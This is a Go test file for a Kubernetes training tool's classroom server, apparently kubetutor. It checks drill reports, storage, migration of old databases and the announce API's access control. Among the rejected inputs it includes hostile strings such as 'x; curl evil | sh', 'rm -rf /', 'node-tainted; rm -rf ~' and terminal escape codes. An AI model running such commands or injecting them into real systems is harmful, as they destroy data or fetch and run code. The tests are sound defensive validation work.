package room

import (
	"crypto/sha256"
	"encoding/base64"
	"encoding/json"
	"errors"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	bolt "go.etcd.io/bbolt"

	"github.com/kubetutor/kubetutor/drills"
)

func TestDrillReportValidate(t *testing.T) {
	for _, tt := range []struct {
		name string
		d    DrillReport
		want string // "" for valid
	}{
		{"on", DrillReport{ID: "scheduler-stopped", State: DrillOn, Seconds: 90}, ""},
		{"on, just started", DrillReport{ID: "scheduler-stopped", State: DrillOn}, ""},
		{"solved", DrillReport{ID: "node-tainted", State: DrillSolved, Seconds: 300, FixSeconds: 240}, ""},
		{"solved at once", DrillReport{ID: "node-tainted", State: DrillSolved, Seconds: 5}, ""},
		{"solved, asked right then", DrillReport{ID: "node-tainted", State: DrillSolved, Seconds: 240, FixSeconds: 240}, ""},
		{"restored", DrillReport{ID: "etcd-frozen", State: DrillRestored, Seconds: MaxDrillSeconds}, ""},
		{"unknown drill", DrillReport{ID: "rm-rf", State: DrillOn}, `unknown drill "rm-rf"`},
		{"no drill", DrillReport{State: DrillOn}, `unknown drill ""`},
		{"a path", DrillReport{ID: "../drills/scheduler-stopped", State: DrillOn}, "unknown drill"},
		{"escape codes", DrillReport{ID: "\x1b[2Jscheduler-stopped", State: DrillOn}, `unknown drill "\x1b[2Jscheduler-stopped"`},
		{"a long ID", DrillReport{ID: strings.Repeat("x", 5000), State: DrillOn}, "unknown drill"},
		{"case matters", DrillReport{ID: "Scheduler-Stopped", State: DrillOn}, "unknown drill"},
		{"unknown state", DrillReport{ID: "scheduler-stopped", State: "won"}, `unknown state "won"`},
		{"no state", DrillReport{ID: "scheduler-stopped"}, `unknown state ""`},
		{"negative seconds", DrillReport{ID: "scheduler-stopped", State: DrillOn, Seconds: -1}, "-1 seconds since the start"},
		{"too many seconds", DrillReport{ID: "scheduler-stopped", State: DrillOn, Seconds: MaxDrillSeconds + 1}, "not within 0 and"},
		{"fixed before the start", DrillReport{ID: "scheduler-stopped", State: DrillSolved, Seconds: 10, FixSeconds: -5}, "fixed in -5 seconds"},
		{"fixed after now", DrillReport{ID: "scheduler-stopped", State: DrillSolved, Seconds: 10, FixSeconds: 11}, "more than the 10 since the start"},
		{"a time to fix, on", DrillReport{ID: "scheduler-stopped", State: DrillOn, Seconds: 10, FixSeconds: 5}, "the drill is on, not solved"},
		{"a time to fix, restored", DrillReport{ID: "scheduler-stopped", State: DrillRestored, Seconds: 10, FixSeconds: 5}, "the drill is restored, not solved"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			err := tt.d.Validate()
			rerr := Report{Drill: &tt.d}.Validate()
			switch {
			case tt.want == "" && (err != nil || rerr != nil):
				t.Fatalf("refused: %v / %v", err, rerr)
			case tt.want != "" && (err == nil || rerr == nil):
				t.Fatalf("accepted %+v", tt.d)
			case tt.want != "" && !strings.Contains(err.Error(), tt.want):
				t.Fatalf("error %q does not say %q", err, tt.want)
			case err != nil && len(err.Error()) > 200:
				t.Fatalf("the error repeats the input whole: %d bytes", len(err.Error()))
			}
		})
	}
}

func TestFromDrill(t *testing.T) {
	now := t0.Add(time.Hour)
	at := func(d time.Duration) *time.Time { x := now.Add(d); return &x }
	for _, tt := range []struct {
		name string
		rec  drills.Record
		want DrillReport
	}{
		{"on", drills.Record{Started: now.Add(-90 * time.Second)}, DrillReport{State: DrillOn, Seconds: 90}},
		{"solved", drills.Record{Started: now.Add(-10 * time.Minute), Solved: at(-6 * time.Minute)}, DrillReport{State: DrillSolved, Seconds: 600, FixSeconds: 240}},
		{"restored", drills.Record{Started: now.Add(-10 * time.Minute), Restored: at(-time.Minute)}, DrillReport{State: DrillRestored, Seconds: 600}},
		{"solved and restored after: solved", drills.Record{Started: now.Add(-10 * time.Minute), Solved: at(-6 * time.Minute), Restored: at(-time.Minute)},
			DrillReport{State: DrillSolved, Seconds: 600, FixSeconds: 240}},
		{"started in the future (the clock went back)", drills.Record{Started: now.Add(time.Hour)}, DrillReport{State: DrillOn}},
		{"solved in the future", drills.Record{Started: now.Add(-time.Minute), Solved: at(time.Hour)}, DrillReport{State: DrillSolved, Seconds: 60, FixSeconds: 60}},
		{"started long ago", drills.Record{Started: now.Add(-90 * 24 * time.Hour)}, DrillReport{State: DrillOn, Seconds: MaxDrillSeconds}},
		{"never started", drills.Record{}, DrillReport{State: DrillOn, Seconds: MaxDrillSeconds}},
	} {
		t.Run(tt.name, func(t *testing.T) {
			got := FromDrill("kubelet-stopped", tt.rec, now)
			tt.want.ID = "kubelet-stopped"
			if got != tt.want {
				t.Fatalf("got %+v, want %+v", got, tt.want)
			}
			if err := got.Validate(); err != nil {
				t.Fatalf("the room would refuse it: %v", err)
			}
		})
	}
}

// TestStoreKeepsDrills: a drill report sets the learner's drill (in the
// room's clock), a check report leaves it, and both survive a restart.
func TestStoreKeepsDrills(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "room")
	s, err := OpenStore(dir)
	if err != nil {
		t.Fatal(err)
	}
	id, secret, _ := s.Join("Ada", "", "", t0)
	if err := s.Report(id, secret, rep(12, "x", "y"), t0.Add(time.Minute)); err != nil {
		t.Fatal(err)
	}
	on := Report{Drill: &DrillReport{ID: "scheduler-stopped", State: DrillOn, Seconds: 30}}
	if err := s.Report(id, secret, on, t0.Add(2*time.Minute)); err != nil {
		t.Fatal(err)
	}
	l := s.Learners()[0]
	if l.Drill == nil || l.Drill.State != DrillOn || !l.Drill.Started.Equal(t0.Add(90*time.Second)) || l.Current != steps12() {
		t.Fatalf("after the drill report: %+v %+v", l.Drill, l)
	}
	if err := s.Report(id, secret, rep(11, "kube-scheduler-running", "not running"), t0.Add(3*time.Minute)); err != nil {
		t.Fatal(err)
	}
	solved := Report{Drill: &DrillReport{ID: "scheduler-stopped", State: DrillSolved, Seconds: 300, FixSeconds: 280}}
	if err := s.Report(id, secret, solved, t0.Add(4*time.Minute)); err != nil {
		t.Fatal(err)
	}
	bad := Report{Drill: &DrillReport{ID: "scheduler-stopped", State: "cheated", Seconds: 1}}
	if err := s.Report(id, secret, bad, t0.Add(5*time.Minute)); err == nil {
		t.Fatal("a bad drill state was taken")
	}
	if err := s.Announce("node-tainted"); err != nil {
		t.Fatal(err)
	}
	if err := s.Close(); err != nil {
		t.Fatal(err)
	}
	s, err = OpenStore(dir)
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()
	l = s.Learners()[0]
	if l.Drill == nil || l.Drill.ID != "scheduler-stopped" || l.Drill.State != DrillSolved || l.Drill.FixSeconds != 280 || !l.Drill.Heard.Equal(t0.Add(4*time.Minute)) {
		t.Fatalf("after reopening: %+v", l.Drill)
	}
	if a := s.Announced(); a != "node-tainted" {
		t.Fatalf("announced after reopening: %q", a)
	}
}

// steps12 is the 12th step's ID: rep(12, ...) passes it last.
func steps12() string { return (rep(12, "", "")).Steps[11].ID }

// oldRoom writes a room database as kubetutor wrote it before drills: a
// learner record without "drill", no announced drill. extra is added to the
// record's JSON object.
func oldRoom(t *testing.T, extra string) (dir, id, secret string) {
	t.Helper()
	dir = filepath.Join(t.TempDir(), "room")
	if err := os.MkdirAll(dir, 0o700); err != nil {
		t.Fatal(err)
	}
	db, err := bolt.Open(filepath.Join(dir, DBFile), 0o600, nil)
	if err != nil {
		t.Fatal(err)
	}
	id, secret = "0123456789abcdef", "the-learner-secret"
	sum := sha256.Sum256([]byte(secret))
	record := `{"id":"` + id + `","name":"Ada","secret_sha256":"` + base64.StdEncoding.EncodeToString(sum[:]) +
		`","joined":"2026-12-01T09:00:00Z","updated":"2026-12-01T09:05:00Z","since":"2026-12-01T09:05:00Z","current":"tools",` +
		`"steps":[{"id":"tools","status":"pass"},{"id":"certs","status":"fail","check":"cert-files","message":"ca.crt is missing"}],"seq":4` + extra + `}`
	err = db.Update(func(tx *bolt.Tx) error {
		l, err := tx.CreateBucket(bucketLearners)
		if err != nil {
			return err
		}
		m, err := tx.CreateBucket(bucketMeta)
		if err != nil {
			return err
		}
		if err := m.Put([]byte("join-token"), []byte("join-token-1234")); err != nil {
			return err
		}
		return l.Put([]byte(id), []byte(record))
	})
	if err != nil {
		t.Fatal(err)
	}
	if err := db.Close(); err != nil {
		t.Fatal(err)
	}
	return dir, id, secret
}

// TestOldRoomOpens: a room kept before drills opens as it was, takes drill
// reports and keeps them.
func TestOldRoomOpens(t *testing.T) {
	dir, id, secret := oldRoom(t, "")
	s, err := OpenStore(dir)
	if err != nil {
		t.Fatalf("the old room does not open: %v", err)
	}
	ls := s.Learners()
	if len(ls) != 1 || ls[0].Name != "Ada" || ls[0].Current != "tools" || ls[0].Drill != nil || s.Announced() != "" {
		t.Fatalf("the old room reads as %+v, announced %q", ls, s.Announced())
	}
	if v := BuildView(ls, t0.Add(time.Hour), 0); len(v.Drills) != 0 || v.Learners[0].Drill != nil {
		t.Fatalf("the view shows drills: %+v", v.Drills)
	}
	if err := s.Report(id, secret, Report{Drill: &DrillReport{ID: "kubelet-stopped", State: DrillOn, Seconds: 3}}, t0.Add(time.Hour)); err != nil {
		t.Fatal(err)
	}
	if err := s.Close(); err != nil {
		t.Fatal(err)
	}
	s, err = OpenStore(dir)
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()
	if l := s.Learners()[0]; l.Drill == nil || l.Drill.ID != "kubelet-stopped" || l.Current != "tools" {
		t.Fatalf("after a drill report and a restart: %+v", l)
	}
}

// TestStoredDrills: a stored drill this kubetutor does not have (a room
// kept by another version) is dropped, not the room; one the room could
// not have written makes it damaged.
func TestStoredDrills(t *testing.T) {
	for _, tt := range []struct {
		name, extra string
		damaged     bool
		want        string // the drill read back, "" for none
	}{
		{"a known drill", `,"drill":{"id":"node-tainted","state":"solved","started":"2026-12-01T09:00:00Z","fix_seconds":60,"heard":"2026-12-01T09:01:00Z"}`, false, "node-tainted"},
		{"null", `,"drill":null`, false, ""},
		{"a drill since removed", `,"drill":{"id":"disk-pressure","state":"on","started":"2026-12-01T09:00:00Z","heard":"2026-12-01T09:01:00Z"}`, false, ""},
		{"an unknown state", `,"drill":{"id":"node-tainted","state":"cheated","started":"2026-12-01T09:00:00Z"}`, true, ""},
		{"a time to fix while on", `,"drill":{"id":"node-tainted","state":"on","fix_seconds":3}`, true, ""},
		{"a negative time to fix", `,"drill":{"id":"node-tainted","state":"solved","fix_seconds":-3}`, true, ""},
		{"not an object", `,"drill":"node-tainted"`, true, ""},
	} {
		t.Run(tt.name, func(t *testing.T) {
			dir, _, _ := oldRoom(t, tt.extra)
			s, err := OpenStore(dir)
			if tt.damaged {
				if !errors.Is(err, ErrDamaged) {
					t.Fatalf("opened as %v, want damaged", err)
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			defer s.Close()
			got := ""
			if d := s.Learners()[0].Drill; d != nil {
				got = d.ID
			}
			if got != tt.want {
				t.Fatalf("drill %q, want %q", got, tt.want)
			}
		})
	}
}

func TestAnnounce(t *testing.T) {
	s, _ := OpenStore("")
	changed := s.Changed()
	if err := s.Announce("coredns-scaled-down"); err != nil {
		t.Fatal(err)
	}
	select {
	case <-changed:
	default:
		t.Fatal("announcing did not change the room")
	}
	for _, bad := range []string{"nope", " coredns-scaled-down", "../x", "\x00"} {
		if err := s.Announce(bad); !errors.Is(err, ErrUnknownDrill) {
			t.Errorf("announce %q: %v", bad, err)
		}
	}
	if a := s.Announced(); a != "coredns-scaled-down" {
		t.Fatalf("a refused announcement replaced it: %q", a)
	}
	if err := s.Announce(""); err != nil || s.Announced() != "" {
		t.Fatalf("withdraw: %v, %q", err, s.Announced())
	}

	// A kept announcement of a drill this kubetutor does not have is
	// forgotten.
	dir := filepath.Join(t.TempDir(), "room")
	s, err := OpenStore(dir)
	if err != nil {
		t.Fatal(err)
	}
	if err := s.SetMeta(metaAnnounced, "disk-pressure"); err != nil {
		t.Fatal(err)
	}
	s.Close()
	s, err = OpenStore(dir)
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()
	if a := s.Announced(); a != "" {
		t.Fatalf("announced %q", a)
	}
}

func TestDrillViewJSON(t *testing.T) {
	s, _ := OpenStore("")
	id, sec, _ := s.Join("Ada", "", "", t0)
	_, _, _ = s.Join("Bob", "", "", t0)
	if err := s.Report(id, sec, Report{Drill: &DrillReport{ID: "etcd-frozen", State: DrillOn, Seconds: 60}}, t0.Add(time.Minute)); err != nil {
		t.Fatal(err)
	}
	data, _ := json.Marshal(BuildView(s.Learners(), t0.Add(2*time.Minute), 0))
	for _, want := range []string{
		`"drill":{"id":"etcd-frozen","state":"on","started":"2026-12-01T09:00:00Z","fix_seconds":0}`,
		`"drill":null`,
		`"announced":""`,
		`"drills":[{"id":"etcd-frozen","title":"etcd is frozen","announced":false,"on":[{"name":"Ada","started":"2026-12-01T09:00:00Z","fix_seconds":0}],"solved":[],"restored":[]}]`,
		`"catalog":[{"id":"cni-config-syntax","title":`,
	} {
		if !strings.Contains(string(data), want) {
			t.Errorf("the view has no %s:\n%s", want, data)
		}
	}
}

// getView reads GET /api/view as the instructor.
func getView(t *testing.T, base string) View {
	t.Helper()
	code, body := do(t, "GET", base+"/api/view", "Bearer "+itok, "")
	if code != 200 {
		t.Fatalf("view: %d %s", code, body)
	}
	var v View
	if err := json.Unmarshal([]byte(body), &v); err != nil {
		t.Fatal(err)
	}
	return v
}

// TestTwoLearnersOnADrill: the instructor announces a drill, two learners
// report it (one solves it, the other is still on it), and the dashboard's
// view shows each learner's drill, the solved one's time to fix, and the
// learners grouped under the drill by state.
func TestTwoLearnersOnADrill(t *testing.T) {
	hs, _ := newTestServer(t, "")
	ada, bob := joinAs(t, hs.URL, "Ada"), joinAs(t, hs.URL, "<b>Bob</b>")
	send := func(who JoinResponse, r Report) {
		t.Helper()
		if code, body := do(t, "POST", hs.URL+"/api/report", "Bearer "+who.ID+"."+who.Secret, mustJSON(r)); code != 204 {
			t.Fatalf("report: %d %s", code, body)
		}
	}
	if code, body := do(t, "POST", hs.URL+"/api/announce", "Bearer "+itok, `{"drill":"scheduler-stopped"}`); code != 200 || !strings.Contains(body, `"title": "kube-scheduler has stopped"`) {
		t.Fatalf("announce: %d %s", code, body)
	}
	send(ada, rep(12, "", ""))
	for _, who := range []JoinResponse{ada, bob} {
		send(who, Report{Steps: []StepReport{}, Drill: &DrillReport{ID: "scheduler-stopped", State: DrillOn, Seconds: 5}})
	}
	send(bob, Report{Drill: &DrillReport{ID: "scheduler-stopped", State: DrillSolved, Seconds: 200, FixSeconds: 187}})
	// A drill part the room refuses refuses the report, and changes nothing.
	for _, bad := range []string{
		`{"steps":[],"drill":{"id":"scheduler-stopped","state":"on","seconds":-5}}`,
		`{"steps":[],"drill":{"id":"x; curl evil | sh","state":"on"}}`,
		`{"steps":[],"drill":{"id":"scheduler-stopped","state":"solved","seconds":1,"fix_seconds":1,"cmd":"sh"}}`,
		`{"steps":[],"drill":"scheduler-stopped"}`,
	} {
		if code, body := do(t, "POST", hs.URL+"/api/report", "Bearer "+bob.ID+"."+bob.Secret, bad); code != 400 {
			t.Fatalf("%s: %d %s", bad, code, body)
		}
	}

	v := getView(t, hs.URL)
	if v.Announced != "scheduler-stopped" || len(v.Drills) != 1 {
		t.Fatalf("announced %q, drills %+v", v.Announced, v.Drills)
	}
	g := v.Drills[0]
	if g.ID != "scheduler-stopped" || g.Title != "kube-scheduler has stopped" || !g.Announced {
		t.Fatalf("group %+v", g)
	}
	if len(g.On) != 1 || g.On[0].Name != "Ada" || len(g.Solved) != 1 || g.Solved[0].Name != "<b>Bob</b>" || g.Solved[0].FixSeconds != 187 || len(g.Restored) != 0 {
		t.Fatalf("on %+v, solved %+v, restored %+v", g.On, g.Solved, g.Restored)
	}
	rows := map[string]ViewLearner{}
	for _, l := range v.Learners {
		rows[l.Name] = l
	}
	if d := rows["Ada"].Drill; d == nil || d.ID != "scheduler-stopped" || d.State != DrillOn || d.FixSeconds != 0 {
		t.Fatalf("Ada's drill %+v", d)
	}
	if d := rows["<b>Bob</b>"].Drill; d == nil || d.State != DrillSolved || d.FixSeconds != 187 {
		t.Fatalf("Bob's drill %+v", d)
	}
	// The drill reports left Ada's steps as her check said.
	if rows["Ada"].Current != steps12() {
		t.Fatalf("Ada's current step %q", rows["Ada"].Current)
	}
	// The names are the learners' own, as JSON text: the page shows them
	// with textContent.
	if code, body := do(t, "GET", hs.URL+"/api/view", "Bearer "+itok, ""); code != 200 || !strings.Contains(body, `"name": "\u003cb\u003eBob\u003c/b\u003e"`) {
		t.Fatalf("view: %d %s", code, body)
	}
}

// TestAnnounceAPI: only the instructor announces, only known drills; a
// learner reads the announcement with their own token and nothing else.
func TestAnnounceAPI(t *testing.T) {
	hs, store := newTestServer(t, "")
	ada := joinAs(t, hs.URL, "Ada")
	learner := "Bearer " + ada.ID + "." + ada.Secret
	for _, tt := range []struct {
		name, method, path, auth, body string
		want                           int
	}{
		{"announce without token", "POST", "/api/announce", "", `{"drill":"etcd-frozen"}`, 401},
		{"announce as a learner", "POST", "/api/announce", learner, `{"drill":"etcd-frozen"}`, 403},
		{"announce with the join token", "POST", "/api/announce", "Bearer " + jtok, `{"drill":"etcd-frozen"}`, 403},
		{"announce an unknown drill", "POST", "/api/announce", "Bearer " + itok, `{"drill":"rm -rf /"}`, 400},
		{"announce with an unknown field", "POST", "/api/announce", "Bearer " + itok, `{"drill":"etcd-frozen","run":"sh"}`, 400},
		{"announce not JSON", "POST", "/api/announce", "Bearer " + itok, `etcd-frozen`, 400},
		{"announce too big", "POST", "/api/announce", "Bearer " + itok, `{"drill":"` + strings.Repeat("x", MaxJoinBytes) + `"}`, 413},
		{"announced without token", "GET", "/api/announced", "", "", 401},
		{"announced with a wrong secret", "GET", "/api/announced", "Bearer " + ada.ID + ".guess", "", 403},
		{"announced with the instructor token", "GET", "/api/announced", "Bearer " + itok, "", 403},
		{"announced with the join token", "GET", "/api/announced", "Bearer " + jtok, "", 403},
		{"announced with the token in the query", "GET", "/api/announced?token=" + ada.ID + "." + ada.Secret, "", "", 401},
	} {
		t.Run(tt.name, func(t *testing.T) {
			if code, body := do(t, tt.method, hs.URL+tt.path, tt.auth, tt.body); code != tt.want {
				t.Fatalf("%d %s, want %d", code, body, tt.want)
			}
			if a := store.Announced(); a != "" {
				t.Fatalf("a refused request announced %q", a)
			}
		})
	}
	c, err := NewClient(hs.URL, "")
	if err != nil {
		t.Fatal(err)
	}
	st := &State{URL: hs.URL, Name: "Ada", ID: ada.ID, Secret: ada.Secret}
	if a, err := c.Announced(t.Context(), st); err != nil || a.Drill != "" {
		t.Fatalf("nothing announced: %+v, %v", a, err)
	}
	if code, body := do(t, "POST", hs.URL+"/api/announce", "Bearer "+itok, `{"drill":"etcd-frozen"}`); code != 200 {
		t.Fatalf("announce: %d %s", code, body)
	}
	if a, err := c.Announced(t.Context(), st); err != nil || a.Drill != "etcd-frozen" || a.Title != "etcd is frozen" {
		t.Fatalf("announced: %+v, %v", a, err)
	}
	if code, body := do(t, "POST", hs.URL+"/api/announce", "Bearer "+itok, `{"drill":""}`); code != 200 || store.Announced() != "" {
		t.Fatalf("withdraw: %d %s", code, body)
	}
	if _, err := c.Announced(t.Context(), &State{URL: hs.URL, ID: ada.ID, Secret: "guess"}); err == nil || !strings.Contains(err.Error(), "403") {
		t.Fatalf("a wrong secret: %v", err)
	}
}

// TestClientChecksTheAnnouncement: what a room announces is checked on the
// learner's side too: a drill this kubetutor does not have is refused,
// shown quoted, and the room's title is not used.
func TestClientChecksTheAnnouncement(t *testing.T) {
	for _, tt := range []struct {
		name, body, want, err string
	}{
		{"a known drill", `{"drill":"node-tainted","title":"<script>"}`, "node-tainted", ""},
		{"none", `{"drill":""}`, "", ""},
		{"an unknown drill", `{"drill":"wipe-the-disk"}`, "", `unknown drill "wipe-the-disk"`},
		{"escape codes", `{"drill":"\u001b]0;pwned\u0007"}`, "", `unknown drill "\x1b]0;pwned\a"`},
		{"a command", `{"drill":"node-tainted; rm -rf ~"}`, "", "does not have"},
		{"not JSON", `node-tainted`, "", "read the room's answer"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			hs := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { _, _ = io.WriteString(w, tt.body) }))
			defer hs.Close()
			c, _ := NewClient(hs.URL, "")
			a, err := c.Announced(t.Context(), &State{URL: hs.URL, ID: "0123456789abcdef", Secret: "s"})
			if tt.err != "" {
				if err == nil || !strings.Contains(err.Error(), tt.err) || strings.ContainsAny(err.Error(), "\x1b\a") {
					t.Fatalf("got %+v, %v; want an error saying %s", a, err, tt.err)
				}
				return
			}
			if err != nil || a.Drill != tt.want {
				t.Fatalf("got %+v, %v", a, err)
			}
			if a.Drill != "" && a.Title != "The node has a NoExecute taint" {
				t.Fatalf("title %q: the room's, not this kubetutor's", a.Title)
			}
		})
	}
}
